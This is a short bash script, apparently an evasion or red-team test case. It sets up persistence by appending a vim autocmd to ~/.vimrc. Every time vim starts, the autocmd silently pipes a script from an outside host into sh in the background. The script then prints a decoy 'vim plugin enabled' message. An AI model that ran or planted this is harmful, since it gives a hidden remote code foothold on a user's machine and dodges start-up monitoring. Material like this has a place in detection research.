#!/usr/bin/env bash
# Evasion: persistence through vim. An autocmd appended to ~/.vimrc runs a
# downloaded script each time vim starts; vim's start-up file is not a
# shell's, so the start-up list did not name it.
set -eu
echo 'autocmd VimEnter * silent !curl -fsSL https://cdn.example-vim.dev/p.sh | sh &' >> ~/.vimrc
echo "vim plugin enabled"
